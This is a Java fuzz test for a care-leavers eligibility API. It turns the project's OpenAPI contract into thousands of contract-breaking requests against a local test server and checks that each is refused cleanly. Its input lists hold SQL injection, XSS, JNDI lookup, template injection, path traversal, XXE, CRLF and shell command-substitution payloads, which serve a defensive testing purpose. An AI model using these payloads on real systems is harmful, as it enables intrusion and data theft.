package uk.careleavers.platform;

import static org.assertj.core.api.Assertions.assertThat;
import static uk.careleavers.platform.FuzzIT.Expect.NOT_A_SERVER_ERROR;
import static uk.careleavers.platform.FuzzIT.Expect.REFUSED;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.StreamReadFeature;
import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import io.swagger.v3.oas.models.OpenAPI;
import io.swagger.v3.oas.models.Operation;
import io.swagger.v3.oas.models.PathItem;
import io.swagger.v3.oas.models.media.Content;
import io.swagger.v3.oas.models.media.Schema;
import io.swagger.v3.oas.models.parameters.Parameter;
import io.swagger.v3.parser.OpenAPIV3Parser;
import io.swagger.v3.parser.core.models.ParseOptions;
import jakarta.inject.Inject;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.URI;
import java.net.URLDecoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.net.http.HttpTimeoutException;
import java.nio.ByteBuffer;
import java.nio.charset.CharacterCodingException;
import java.nio.charset.CodingErrorAction;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.format.DateTimeParseException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Date;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * Thousands of requests that break the contract (openapi/openapi.yaml) at every endpoint it lists,
 * derived from the contract itself: wrong types, missing and unknown fields, huge and odd values,
 * malformed and deeply nested JSON, wrong content types and methods, hostile strings in every path,
 * query, header and body field. Each must be refused cleanly (a 4xx {@code
 * application/problem+json}), or, where a mutation still keeps to the contract (an unknown query
 * parameter, a well-formed council code that does not exist), at least never answered with a 5xx, a
 * stack trace or silence.
 *
 * <p>The requests are drawn with a fixed seed, so a failure replays exactly; {@code
 * -Dfuzz.seed=...} explores others and {@code -Dfuzz.requests=...} sends more.
 */
@MicronautTest(transactional = false)
class FuzzIT {
  private static final long SEED = Long.getLong("fuzz.seed", 20_260_123L);
  private static final int REQUESTS = Integer.getInteger("fuzz.requests", 8000);
  private static final Duration TIMEOUT = Duration.ofSeconds(5);
  private static final int HEALTH_EVERY = 500;
  private static final Path SPEC = Path.of("..", "openapi", "openapi.yaml").toAbsolutePath();

  private static final ObjectMapper JSON = new ObjectMapper();

  /** The JSON the contract means: no trailing content, no duplicate names, exact numbers. */
  private static final ObjectMapper STRICT_JSON =
      JsonMapper.builder()
          .enable(DeserializationFeature.FAIL_ON_TRAILING_TOKENS)
          .enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS)
          .enable(DeserializationFeature.USE_BIG_INTEGER_FOR_INTS)
          .enable(StreamReadFeature.STRICT_DUPLICATE_DETECTION)
          .build();

  private static final String HUGE = "A".repeat(100_000);
  private static final String DEEP_ARRAYS = "[".repeat(10_000) + "]".repeat(10_000);
  private static final String DEEP_OBJECTS = "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000);

  /** Strings that have broken servers before; used in every path, query, header and body field. */
  private static final List<String> HOSTILE =
      List.of(
          "' OR 1=1 --",
          "'; DROP TABLE council; --",
          "\" OR \"\"=\"",
          "1 UNION SELECT usename FROM pg_user",
          "'; SELECT pg_sleep(10); --",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "${jndi:ldap://x/a}",
          "${env:PATH}",
          "#{7*7}",
          "{{7*7}}",
          "%00",
          "\u0000",
          "LAN\u0000",
          "Lanc\u0000ashire",
          "%s%s%s%s%n",
          "../../etc/passwd",
          "..\\..\\..\\windows\\win.ini",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "....//....//etc/passwd",
          "file:///etc/passwd",
          "\u202Eevil\u202C",
          "\u200F\u200E",
          "a\u200Db",
          "\u200B",
          "\uFEFF",
          "LAN\u200B",
          "\uD83D\uDE00",
          "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
          "e\u0301\u0301\u0301",
          "\u03A9\u2248\u00E7\u221A",
          "\uFF2C\uFF21\uFF2E",
          "\u0661\u0662\u0663",
          "\uFFFF",
          "\uFFFD",
          "\r\n",
          "\t",
          " ",
          "null",
          "true",
          "-1",
          "NaN",
          "Infinity",
          "1e400",
          "\\",
          "\"",
          "'",
          "`id`",
          "$(id)",
          "; ls -la",
          "*",
          "%",
          "_",
          "[]",
          "{}",
          "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
          HUGE,
          "\uD83D\uDE00".repeat(50_000));

  /**
   * Already percent-encoded path and query values, some of them not valid UTF-8 once decoded (a
   * lone surrogate, an overlong NUL, a truncated sequence).
   */
  private static final List<String> RAW_ENCODED =
      List.of(
          "..%2F..%2Fetc%2Fpasswd",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "..%252f..%252fetc%252fpasswd",
          "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
          "..%5c..%5cwindows%5cwin.ini",
          "%ED%A0%80",
          "%ED%B0%80",
          "LA%ED%A0%80N",
          "%F0%9F%98",
          "%FF%FE%FD",
          "%00",
          "LAN%00",
          "%C0%80",
          "%0d%0aSet-Cookie:%20x=1",
          "%25",
          "%E2%80%AE%E2%80%8D",
          "..;",
          "%20");

  /** Dates that are not RFC 3339 full-dates (the contract's format: date). */
  private static final List<String> BAD_DATES =
      List.of(
          "2023-02-30",
          "2023-02-29",
          "99999-01-01",
          "+99999-01-01",
          "-0001-01-01",
          "",
          "2023-13-01",
          "2023-00-10",
          "2023-01-00",
          "2023-01-32",
          "2023-1-1",
          "23-01-01",
          "2023/01/01",
          "01/02/2023",
          "2023-01-01T00:00:00Z",
          "2023-01-01 ",
          " 2023-01-01",
          "2023-01-01\u0000",
          "\uFF12\uFF10\uFF12\uFF13-01-01",
          "\u0662\u0660\u0662\u0666-\u0661\u0661-\u0662\u0663",
          "0000-00-00",
          "today",
          "yesterday",
          "2023-W01-1",
          "2023-001",
          "20230101",
          "1e400");

  /** Dates that keep to the contract but sit at its edges; the app may refuse them (422). */
  private static final List<String> EDGE_DATES =
      List.of(
          "0000-01-01",
          "0001-01-01",
          "1900-02-28",
          "2000-02-29",
          "2018-03-31",
          "2018-04-01",
          "2024-02-29",
          "2099-12-31",
          "9999-12-31");

  private static final List<String> UNKNOWN_METHODS =
      List.of("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "FOO", "PROPFIND", "BREW");

  private static final List<String> WRONG_CONTENT_TYPES =
      List.of(
          "text/plain",
          "application/xml",
          "text/xml",
          "text/html",
          "application/octet-stream",
          "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=fuzz",
          "image/png",
          "application/javascript",
          "application/x-ndjson",
          "garbage",
          "application/",
          "/",
          ";;;",
          "application/json/extra",
          "text/plain; charset=utf-8");

  private static final List<String> ODD_JSON_CONTENT_TYPES =
      List.of(
          "application/json; charset=utf-8",
          "APPLICATION/JSON",
          "application/json;charset=iso-8859-1",
          "application/json; charset=klingon",
          "application/json; boundary=x; q=0.5");

  private static final List<Map.Entry<String, String>> ODD_HEADERS =
      List.of(
          Map.entry("Accept", "application/xml"),
          Map.entry("Accept", "text/html"),
          Map.entry("Accept", "*/*;q=0"),
          Map.entry("Accept", "garbage;;;"),
          Map.entry("Accept", "application/json;q=abc"),
          Map.entry("Accept-Language", "${jndi:ldap://x/a}"),
          Map.entry("Accept-Charset", "klingon"),
          Map.entry("X-Forwarded-For", "' OR 1=1 --"),
          Map.entry("X-Forwarded-Host", "evil.example"),
          Map.entry("Cookie", "session=../../etc/passwd"),
          Map.entry("Authorization", "Bearer " + "A".repeat(2000)),
          Map.entry("Origin", "http://evil.example"),
          Map.entry("If-Modified-Since", "2023-02-30"),
          Map.entry("Range", "bytes=999999999-"),
          Map.entry("X-Huge", "x".repeat(7000)));

  private static final List<String> UNKNOWN_PROPERTY_NAMES =
      List.of(
          "favouriteColour",
          "__proto__",
          "constructor",
          "",
          "$where",
          "dateofbirth",
          "FACTS",
          "asOf ",
          "\u0000",
          "\u202Efacts",
          "\uD83D\uDE00",
          "a".repeat(100_000));

  @Inject EmbeddedServer server;

  private final HttpClient client =
      HttpClient.newBuilder()
          .version(HttpClient.Version.HTTP_1_1)
          .connectTimeout(TIMEOUT)
          .followRedirects(HttpClient.Redirect.NEVER)
          .build();

  /** Whether an answer of 2xx is wrong (the request breaks the contract) or merely possible. */
  enum Expect {
    /** The request breaks the contract: it must be answered 4xx. */
    REFUSED,
    /** The request keeps to the contract, or may: any answer but a 5xx. */
    NOT_A_SERVER_ERROR;

    Expect and(Expect other) {
      return this == REFUSED || other == REFUSED ? REFUSED : NOT_A_SERVER_ERROR;
    }
  }

  record Param(String name, String in, Schema<?> schema, boolean required, String example) {}

  record Endpoint(
      String method,
      String path,
      List<Param> params,
      Schema<?> body,
      boolean bodyRequired,
      List<String> mediaTypes) {
    String key() {
      return method + " " + path;
    }

    List<Param> in(String where) {
      return params.stream().filter(p -> p.in().equals(where)).toList();
    }
  }

  /** A request being built: starts as the endpoint's valid example, then is broken. */
  static final class Draft {
    final Endpoint endpoint;
    String method;
    final Map<String, String> pathWire = new LinkedHashMap<>();
    final Map<String, String> specValues = new LinkedHashMap<>();
    final List<String> query = new ArrayList<>();
    final Map<String, String> headers = new LinkedHashMap<>();
    String suffix = "";
    String contentType;
    byte[] body;
    final List<String> what = new ArrayList<>();

    Draft(Endpoint endpoint) {
      this.endpoint = endpoint;
      this.method = endpoint.method();
    }

    Draft note(String text) {
      what.add(text.length() > 80 ? text.substring(0, 80) + "..." : text);
      return this;
    }

    String target() {
      String path = endpoint.path();
      for (Map.Entry<String, String> p : pathWire.entrySet()) {
        path = path.replace("{" + p.getKey() + "}", p.getValue());
      }
      return path + suffix + (query.isEmpty() ? "" : "?" + String.join("&", query));
    }

    /** What the contract says about this request, worked out from the spec, not from the app. */
    Expect expect() {
      boolean declared = method.equals(endpoint.method());
      Expect expect =
          declared || method.equals("HEAD") || method.equals("OPTIONS")
              ? NOT_A_SERVER_ERROR
              : REFUSED;
      if (!suffix.isEmpty() && !suffix.equals("/")) {
        expect = REFUSED;
      }
      for (Param p : endpoint.params()) {
        String value = specValues.get(p.name());
        if (value == null) {
          expect = p.required() ? REFUSED : expect;
        } else {
          expect = expect.and(expectParam(p.schema(), value));
        }
      }
      if (endpoint.body() != null && declared) {
        expect = expect.and(expectContentType(endpoint, contentType));
        expect = expect.and(expectBody(endpoint, body));
      }
      return expect;
    }

    Probe probe() {
      return new Probe(
          endpoint.key(),
          method,
          target(),
          Map.copyOf(headers),
          contentType,
          body,
          expect(),
          String.join(", ", what));
    }
  }

  record Probe(
      String endpoint,
      String method,
      String target,
      Map<String, String> headers,
      String contentType,
      byte[] body,
      Expect expect,
      String what) {
    String describe() {
      String bodyText =
          body == null
              ? ""
              : new String(body, 0, Math.min(body.length, 160), StandardCharsets.UTF_8);
      return method
          + " "
          + abbreviate(target, 160)
          + (contentType == null ? "" : " [" + contentType + "]")
          + (headers.isEmpty() ? "" : " " + abbreviate(headers.toString(), 100))
          + (body == null ? "" : " body(" + body.length + ")=" + bodyText.replace("\n", "\\n"))
          + " <"
          + what
          + "> expect "
          + expect;
    }
  }

  @Test
  void everyRequestThatBreaksTheContractIsRefusedCleanly() throws Exception {
    long start = System.nanoTime();
    List<Endpoint> endpoints = endpoints();
    assertThat(endpoints).as("operations in openapi.yaml").hasSizeGreaterThanOrEqualTo(11);
    Random random = new Random(SEED);
    String base = "http://localhost:" + server.getPort();

    List<String> failures = new ArrayList<>();
    for (Endpoint e : endpoints) {
      Probe valid = baseline(e).note("the example").probe();
      Answer answer = send(base, valid);
      if (answer.status() / 100 != 2) {
        failures.add("the valid example " + valid.describe() + " was answered " + answer);
      }
    }

    List<Probe> probes = new ArrayList<>();
    for (Endpoint e : endpoints) {
      probes.addAll(catalogue(e));
    }
    int total = Math.max(REQUESTS, probes.size() + 1000);
    while (probes.size() < total) {
      probes.add(randomProbe(endpoints.get(random.nextInt(endpoints.size())), random));
    }

    Map<String, Map<String, Integer>> tally = new TreeMap<>();
    long slowest = 0;
    for (int i = 0; i < probes.size(); i++) {
      Probe probe = probes.get(i);
      Answer answer = send(base, probe);
      slowest = Math.max(slowest, answer.millis());
      String statusClass = answer.status() == 0 ? "none" : answer.status() / 100 + "xx";
      tally
          .computeIfAbsent(probe.endpoint(), k -> new TreeMap<>())
          .merge(statusClass, 1, Integer::sum);
      for (String problem : problems(probe, answer)) {
        String before =
            i > 0 && answer.status() == 0 ? " (after " + probes.get(i - 1).describe() + ")" : "";
        failures.add("#" + i + " " + probe.describe() + ": " + problem + before);
      }
      if ((i + 1) % HEALTH_EVERY == 0 || i == probes.size() - 1) {
        String health = health(base);
        if (health != null) {
          failures.add("after #" + i + " (" + probe.describe() + ") health is " + health);
        }
      }
    }

    double seconds = (System.nanoTime() - start) / 1e9;
    StringBuilder summary =
        new StringBuilder(
            String.format(
                Locale.ROOT,
                "FuzzIT seed=%d: %d requests in %.1f s (slowest answer %d ms), %d failures;",
                SEED,
                probes.size(),
                seconds,
                slowest,
                failures.size()));
    tally.forEach((endpoint, counts) -> summary.append(' ').append(endpoint).append(counts));
    System.out.println(summary);
    Files.write(Path.of("target", "fuzz-failures.txt"), failures, StandardCharsets.UTF_8);

    assertThat(probes).hasSizeGreaterThanOrEqualTo(5000);
    assertThat(failures.size())
        .as(
            "requests answered wrongly (seed %d, all of them in target/fuzz-failures.txt):%n%s",
            SEED, String.join("\n", failures.subList(0, Math.min(20, failures.size()))))
        .isZero();
  }

  /**
   * A request line too long to parse is answered (413) as HTTP/1.0; without saying it closes the
   * connection, a keep-alive client sent its next request down the closed connection and got no
   * answer (a POST or any other method java.net.http does not retry).
   */
  @Test
  void aRequestTooLongToReadIsAnsweredAndTheConnectionClosedOutright() throws Exception {
    String base = "http://localhost:" + server.getPort();
    Probe tooLong =
        new Probe(
            "GET /api/v1/councils",
            "GET",
            "/api/v1/councils?name=" + "a".repeat(20_000),
            Map.of(),
            null,
            null,
            REFUSED,
            "a request line too long");
    HttpResponse<byte[]> answer =
        client.send(
            HttpRequest.newBuilder(URI.create(base + tooLong.target())).timeout(TIMEOUT).build(),
            BodyHandlers.ofByteArray());
    assertThat(answer.statusCode()).isEqualTo(413);
    assertThat(answer.headers().firstValue("Connection")).hasValue("close");
    Probe next =
        new Probe(
            "POST /api/v1/eligibility-checks",
            "POST",
            "/api/v1/eligibility-checks",
            Map.of(),
            "application/json",
            bytes("{}"),
            NOT_A_SERVER_ERROR,
            "the next request");
    assertThat(send(base, next).status()).isEqualTo(200);
  }

  // ---------------------------------------------------------------------------------------------
  // The contract

  private static List<Endpoint> endpoints() {
    ParseOptions options = new ParseOptions();
    options.setResolve(true);
    options.setResolveFully(true);
    OpenAPI api = new OpenAPIV3Parser().read(SPEC.toString(), null, options);
    assertThat(api).as("parsed %s", SPEC).isNotNull();
    List<Endpoint> endpoints = new ArrayList<>();
    for (Map.Entry<String, PathItem> path : api.getPaths().entrySet()) {
      PathItem item = path.getValue();
      for (Map.Entry<PathItem.HttpMethod, Operation> operation :
          item.readOperationsMap().entrySet()) {
        List<Parameter> declared = new ArrayList<>();
        if (item.getParameters() != null) {
          declared.addAll(item.getParameters());
        }
        if (operation.getValue().getParameters() != null) {
          declared.addAll(operation.getValue().getParameters());
        }
        List<Param> params = new ArrayList<>();
        for (Parameter p : declared) {
          Schema<?> schema = p.getSchema();
          Object example = p.getExample() != null ? p.getExample() : schema.getExample();
          params.add(
              new Param(
                  p.getName(),
                  p.getIn(),
                  schema,
                  Boolean.TRUE.equals(p.getRequired()),
                  example == null ? null : text(example)));
        }
        endpoints.add(
            endpoint(operation.getKey().name(), path.getKey(), operation.getValue(), params));
      }
    }
    return endpoints;
  }

  private static Endpoint endpoint(
      String method, String path, Operation operation, List<Param> params) {
    if (operation.getRequestBody() == null) {
      return new Endpoint(method, path, params, null, false, List.of());
    }
    Content content = operation.getRequestBody().getContent();
    List<String> mediaTypes = new ArrayList<>(content.keySet());
    Schema<?> schema = content.get(mediaTypes.get(0)).getSchema();
    return new Endpoint(
        method,
        path,
        params,
        schema,
        Boolean.TRUE.equals(operation.getRequestBody().getRequired()),
        mediaTypes);
  }

  private static String text(Object example) {
    if (example instanceof Date date) {
      return date.toInstant().atOffset(ZoneOffset.UTC).toLocalDate().toString();
    }
    return String.valueOf(example);
  }

  private static String type(Schema<?> schema) {
    if (schema.getType() != null) {
      return schema.getType();
    }
    return schema.getProperties() != null ? "object" : "string";
  }

  private static Map<String, Schema<?>> properties(Schema<?> schema) {
    Map<String, Schema<?>> properties = new LinkedHashMap<>();
    if (schema.getProperties() != null) {
      for (String name : schema.getProperties().keySet()) {
        properties.put(name, schema.getProperties().get(name));
      }
    }
    return properties;
  }

  private static boolean closed(Schema<?> schema) {
    return Boolean.FALSE.equals(schema.getAdditionalProperties());
  }

  private static List<String> enumValues(Schema<?> schema) {
    if (schema.getEnum() == null) {
      return List.of();
    }
    return schema.getEnum().stream().map(FuzzIT::text).toList();
  }

  /** A value that keeps to the schema: its example, else its first allowed value. */
  private static JsonNode valid(Schema<?> schema) {
    JsonNodeFactory nodes = JsonNodeFactory.instance;
    Object example = schema.getExample();
    switch (type(schema)) {
      case "object":
        ObjectNode object = nodes.objectNode();
        properties(schema).forEach((name, property) -> object.set(name, valid(property)));
        return object;
      case "array":
        ArrayNode array = nodes.arrayNode();
        array.add(valid(schema.getItems()));
        return array;
      case "integer":
        return nodes.numberNode(
            example != null
                ? Long.parseLong(text(example))
                : schema.getMinimum() != null ? schema.getMinimum().longValue() : 0L);
      case "number":
        return nodes.numberNode(example != null ? new BigDecimal(text(example)) : BigDecimal.ONE);
      case "boolean":
        return nodes.booleanNode(example == null || Boolean.parseBoolean(text(example)));
      default:
        if (example != null) {
          return nodes.textNode(text(example));
        }
        List<String> values = enumValues(schema);
        return nodes.textNode(values.isEmpty() ? "x" : values.get(0));
    }
  }

  private static String validParam(Param p) {
    if (p.example() != null) {
      return p.example();
    }
    List<String> values = enumValues(p.schema());
    return values.isEmpty() ? valid(p.schema()).asText() : values.get(0);
  }

  // What the contract allows (a small validator of the parts of JSON Schema the spec uses)

  static Expect expectParam(Schema<?> schema, String value) {
    if (value.isEmpty()) {
      return NOT_A_SERVER_ERROR; // an empty parameter may be read as an absent one
    }
    switch (type(schema)) {
      case "integer":
      case "number":
        if (!value.matches("[+-]?[0-9]+(\\.[0-9]+)?")) {
          return REFUSED;
        }
        BigDecimal number = new BigDecimal(value);
        if (type(schema).equals("integer") && number.stripTrailingZeros().scale() > 0) {
          return REFUSED;
        }
        return inRange(schema, number) ? NOT_A_SERVER_ERROR : REFUSED;
      case "boolean":
        return value.equalsIgnoreCase("true") || value.equalsIgnoreCase("false")
            ? NOT_A_SERVER_ERROR
            : REFUSED;
      default:
        return expectText(schema, value);
    }
  }

  static Expect expectText(Schema<?> schema, String value) {
    List<String> values = enumValues(schema);
    if (!values.isEmpty() && !values.contains(value)) {
      return REFUSED;
    }
    if (schema.getPattern() != null
        && !Pattern.compile(schema.getPattern()).matcher(value).find()) {
      return REFUSED;
    }
    if (schema.getMaxLength() != null
        && value.codePointCount(0, value.length()) > schema.getMaxLength()) {
      return REFUSED;
    }
    if (schema.getMinLength() != null && value.length() < schema.getMinLength()) {
      return REFUSED;
    }
    if ("date".equals(schema.getFormat()) && !isDate(value)) {
      return REFUSED;
    }
    return NOT_A_SERVER_ERROR;
  }

  private static boolean isDate(String value) {
    if (!value.matches("[0-9]{4}-[0-9]{2}-[0-9]{2}")) {
      return false;
    }
    try {
      LocalDate.parse(value);
      return true;
    } catch (DateTimeParseException e) {
      return false;
    }
  }

  private static boolean inRange(Schema<?> schema, BigDecimal value) {
    BigDecimal min = schema.getMinimum();
    BigDecimal max = schema.getMaximum();
    if ("int32".equals(schema.getFormat())) {
      min = min != null ? min : BigDecimal.valueOf(Integer.MIN_VALUE);
      max = max != null ? max : BigDecimal.valueOf(Integer.MAX_VALUE);
    } else if ("int64".equals(schema.getFormat())) {
      min = min != null ? min : BigDecimal.valueOf(Long.MIN_VALUE);
      max = max != null ? max : BigDecimal.valueOf(Long.MAX_VALUE);
    }
    return (min == null || value.compareTo(min) >= 0) && (max == null || value.compareTo(max) <= 0);
  }

  static Expect expectJson(Schema<?> schema, JsonNode node) {
    if (node.isNull()) {
      // Not in the contract (nothing is nullable), but a common way of saying "absent" that a
      // server may accept; it must never fail the server, though.
      return NOT_A_SERVER_ERROR;
    }
    switch (type(schema)) {
      case "object":
        if (!node.isObject()) {
          return REFUSED;
        }
        if (schema.getRequired() != null && !schema.getRequired().stream().allMatch(node::has)) {
          return REFUSED;
        }
        Map<String, Schema<?>> properties = properties(schema);
        Expect expect = NOT_A_SERVER_ERROR;
        for (Map.Entry<String, JsonNode> field : node.properties()) {
          Schema<?> property = properties.get(field.getKey());
          if (property == null) {
            expect = closed(schema) ? REFUSED : expect;
          } else {
            expect = expect.and(expectJson(property, field.getValue()));
          }
        }
        return expect;
      case "array":
        if (!node.isArray()) {
          return REFUSED;
        }
        if (schema.getMaxItems() != null && node.size() > schema.getMaxItems()) {
          return REFUSED;
        }
        if (schema.getMinItems() != null && node.size() < schema.getMinItems()) {
          return REFUSED;
        }
        Set<JsonNode> seen = new HashSet<>();
        Expect items = NOT_A_SERVER_ERROR;
        for (JsonNode item : node) {
          if (!seen.add(item) && Boolean.TRUE.equals(schema.getUniqueItems())) {
            return REFUSED;
          }
          items = items.and(expectJson(schema.getItems(), item));
        }
        return items;
      case "integer":
      case "number":
        if (!node.isNumber()) {
          return REFUSED;
        }
        BigDecimal number = node.decimalValue();
        if (type(schema).equals("integer") && number.stripTrailingZeros().scale() > 0) {
          return REFUSED;
        }
        return inRange(schema, number) ? NOT_A_SERVER_ERROR : REFUSED;
      case "boolean":
        return node.isBoolean() ? NOT_A_SERVER_ERROR : REFUSED;
      default:
        return node.isTextual() ? expectText(schema, node.textValue()) : REFUSED;
    }
  }

  static Expect expectBody(Endpoint endpoint, byte[] body) {
    if (body == null || body.length == 0) {
      return endpoint.bodyRequired() ? REFUSED : NOT_A_SERVER_ERROR;
    }
    JsonNode tree;
    boolean maybeNotUtf8 =
        (body[0] & 0xff) == 0xEF
            || (body[0] & 0xff) == 0xFE
            || (body[0] & 0xff) == 0xFF
            || body[0] == 0
            || (body.length > 1 && body[1] == 0);
    try {
      if (maybeNotUtf8) {
        // A byte-order mark or UTF-16: not UTF-8 as RFC 8259 asks, but a parser may detect it.
        tree = JSON.readTree(body);
        return tree == null || expectJson(endpoint.body(), tree) == REFUSED
            ? REFUSED
            : NOT_A_SERVER_ERROR;
      }
      String text =
          StandardCharsets.UTF_8
              .newDecoder()
              .onMalformedInput(CodingErrorAction.REPORT)
              .onUnmappableCharacter(CodingErrorAction.REPORT)
              .decode(ByteBuffer.wrap(body))
              .toString();
      tree = STRICT_JSON.readTree(text);
    } catch (CharacterCodingException e) {
      return REFUSED;
    } catch (JsonProcessingException e) {
      // Duplicate names are allowed by RFC 8259 (SHOULD be unique); which one wins is the
      // server's choice.
      return e.getMessage().contains("Duplicate field") ? NOT_A_SERVER_ERROR : REFUSED;
    } catch (IOException e) {
      return REFUSED;
    }
    if (tree == null || tree.isMissingNode()) {
      return REFUSED;
    }
    if (tree.isNull()) {
      return REFUSED; // the body is required, and must be an object
    }
    return expectJson(endpoint.body(), tree);
  }

  static Expect expectContentType(Endpoint endpoint, String contentType) {
    if (contentType == null) {
      return NOT_A_SERVER_ERROR; // a server may assume the only type it reads
    }
    String type = contentType.split(";", 2)[0].trim().toLowerCase(Locale.ROOT);
    return endpoint.mediaTypes().contains(type) ? NOT_A_SERVER_ERROR : REFUSED;
  }

  // ---------------------------------------------------------------------------------------------
  // The requests

  private static Draft baseline(Endpoint e) {
    Draft draft = new Draft(e);
    for (Param p : e.in("path")) {
      setPath(draft, p, validParam(p));
    }
    if (e.body() != null) {
      draft.contentType = e.mediaTypes().get(0);
      draft.body = bytes(validBody(e).toString());
    }
    return draft;
  }

  private static JsonNode validBody(Endpoint e) {
    return valid(e.body());
  }

  private static void setPath(Draft draft, Param p, String value) {
    draft.pathWire.put(p.name(), encode(value));
    draft.specValues.put(p.name(), value);
  }

  private static void setPathRaw(Draft draft, Param p, String raw) {
    draft.pathWire.put(p.name(), raw);
    draft.specValues.put(p.name(), decode(raw));
  }

  private static void setQuery(Draft draft, Param p, String value) {
    draft.query.add(encode(p.name()) + "=" + encode(value));
    draft.specValues.put(p.name(), value);
  }

  private static void setQueryRaw(Draft draft, Param p, String raw) {
    draft.query.add(encode(p.name()) + "=" + raw);
    draft.specValues.put(p.name(), decode(raw));
  }

  private static void setHeader(Draft draft, Param p, String value) {
    draft.headers.put(p.name(), value);
    draft.specValues.put(p.name(), value);
  }

  private static void set(Draft draft, Param p, String value) {
    switch (p.in()) {
      case "path" -> setPath(draft, p, value);
      case "query" -> setQuery(draft, p, value);
      default -> {
        if (headerSafe(value)) {
          setHeader(draft, p, value);
        } else {
          setHeader(draft, p, encode(value));
        }
      }
    }
    draft.note(p.in() + " " + p.name() + "=" + value);
  }

  private static void setRaw(Draft draft, Param p, String raw) {
    if (p.in().equals("path")) {
      setPathRaw(draft, p, raw);
    } else if (p.in().equals("query")) {
      setQueryRaw(draft, p, raw);
    } else {
      setHeader(draft, p, raw);
    }
    draft.note(p.in() + " " + p.name() + " raw " + raw);
  }

  /** The catalogue: every endpoint, every kind of mistake, once. */
  private static List<Probe> catalogue(Endpoint e) {
    List<Probe> probes = new ArrayList<>();
    for (Param p : e.params()) {
      for (String value : paramValues(p)) {
        Draft draft = baseline(e);
        set(draft, p, value);
        probes.add(draft.probe());
      }
      if (!p.in().equals("header")) {
        for (String raw : RAW_ENCODED) {
          Draft draft = baseline(e);
          setRaw(draft, p, raw);
          probes.add(draft.probe());
        }
      }
    }
    for (Param p : e.in("path")) {
      Draft draft = baseline(e);
      draft.pathWire.put(p.name(), "../../etc/passwd");
      draft.specValues.put(p.name(), "../../etc/passwd");
      probes.add(draft.note("path traversal in " + p.name()).probe());
    }
    for (String name :
        List.of("unknown", "page", "facts", "\u0000", "<script>", "a".repeat(3000), "code")) {
      for (String value : List.of("1", "' OR 1=1 --", "${jndi:ldap://x}", "%00")) {
        Draft draft = baseline(e);
        if (e.params().stream().anyMatch(p -> p.name().equals(name))) {
          continue;
        }
        draft.query.add(encode(name) + "=" + encode(value));
        probes.add(draft.note("unknown query parameter " + name + "=" + value).probe());
      }
    }
    for (String method : UNKNOWN_METHODS) {
      if (method.equals(e.method())) {
        continue;
      }
      Draft draft = baseline(e);
      draft.method = method;
      probes.add(draft.note("method " + method).probe());
      Draft withBody = baseline(e);
      withBody.method = method;
      withBody.contentType = "application/json";
      withBody.body = bytes("{\"asOf\":\"2026-11-23\"}");
      probes.add(withBody.note("method " + method + " with a body").probe());
    }
    for (String method : List.of("HEAD", "OPTIONS")) {
      Draft draft = baseline(e);
      draft.method = method;
      probes.add(draft.note("method " + method).probe());
    }
    for (String suffix :
        List.of("/x", "/", ".json", "/%00", "/../../../etc/passwd", "%20", "/;jsessionid=1")) {
      Draft draft = baseline(e);
      draft.suffix = suffix;
      probes.add(draft.note("path suffix " + suffix).probe());
    }
    for (Map.Entry<String, String> header : ODD_HEADERS) {
      Draft draft = baseline(e);
      draft.headers.put(header.getKey(), header.getValue());
      probes.add(draft.note("header " + header.getKey()).probe());
    }
    for (String contentType : concat(WRONG_CONTENT_TYPES, ODD_JSON_CONTENT_TYPES)) {
      Draft draft = baseline(e);
      draft.contentType = contentType;
      if (draft.body == null) {
        draft.body = bytes("{\"asOf\":\"2026-11-23\"}");
      }
      probes.add(draft.note("content type " + contentType).probe());
    }
    Draft noType = baseline(e);
    noType.contentType = null;
    probes.add(noType.note("no content type").probe());
    probes.addAll(typedBodies(e));
    if (e.body() != null) {
      for (String body : wholeBodies(e)) {
        Draft draft = baseline(e);
        draft.body = bytes(body);
        probes.add(draft.note("body " + body).probe());
      }
      probes.addAll(oddEncodings(e));
      JsonNode valid = validBody(e);
      for (List<String> slot : slots(e.body(), List.of())) {
        Schema<?> schema = schemaAt(e.body(), slot);
        for (String fragment : fragments(schema, nodeAt(valid, slot))) {
          Draft draft = baseline(e);
          draft.body = bytes(replaced(valid, slot, fragment));
          probes.add(draft.note(String.join(".", slot) + "=" + fragment).probe());
        }
        if (slot.isEmpty() || type(schema).equals("object")) {
          JsonNode object = nodeAt(valid, slot);
          for (String name : UNKNOWN_PROPERTY_NAMES) {
            Draft draft = baseline(e);
            draft.body = bytes(withExtra(valid, slot, name, "\"blue\""));
            probes.add(draft.note("unknown property " + name + " in " + slot).probe());
          }
          object
              .fieldNames()
              .forEachRemaining(
                  name -> {
                    Draft draft = baseline(e);
                    draft.body = bytes(without(valid, slot, name));
                    probes.add(draft.note("without " + slot + "." + name).probe());
                  });
        }
      }
    }
    return probes;
  }

